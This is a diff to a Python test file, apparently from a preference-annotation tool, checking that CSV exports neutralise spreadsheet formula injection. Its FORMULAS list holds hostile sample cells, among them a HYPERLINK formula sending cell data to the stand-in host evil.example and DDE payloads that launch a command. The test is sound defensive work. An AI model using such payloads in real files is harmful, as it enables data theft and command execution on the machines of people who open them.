@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 from datetime import datetime
 
@@ -203,6 +204,37 @@ def test_it_writes_raw_judgments_to_parquet_and_csv(project, data, tmp_path):
     assert json.loads(table[1]["flags"]) == ["unsafe"]
     assert [r["rater"] for r in table] == [r["rater"] for r in ds]
     assert [datetime.fromisoformat(r["created_at"]) for r in table] == ds["created_at"]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1, "click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "\tTAB",
+    "\rCR",
+]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(project, alice, tmp_path):
+    for n, text in enumerate(FORMULAS):
+        comparison = ComparisonFactory(project=project, external_id=f"=cmd{n}")
+        judge(comparison, alice, "a", rationale=text)
+    judge(ComparisonFactory(project=project, external_id="plain"), alice, "b", rationale="fine")
+    csv_path, jsonl = tmp_path / "j.csv", tmp_path / "j.jsonl"
+
+    manifest = export_preferences(project, "judgments-csv", csv_path)
+    export_preferences(project, "judgments", jsonl)
+
+    with csv_path.open(newline="") as fh:
+        table = list(csv.DictReader(fh))
+    assert [r["rationale"] for r in table] == ["'" + text for text in FORMULAS] + ["fine"]
+    assert [r["external_id"] for r in table] == [f"'=cmd{n}" for n in range(6)] + ["plain"]
+    assert manifest["file_notes"]["cells_neutralised"] == 2 * len(FORMULAS)
+    assert "OWASP" in manifest["file_notes"]["formula_guard"]
+    # JSONL (and Parquet) keep the exact text.
+    exact = [json.loads(line)["rationale"] for line in jsonl.read_text().splitlines()]
+    assert exact == [*FORMULAS, "fine"]
 
 
 @pytest.mark.parametrize(
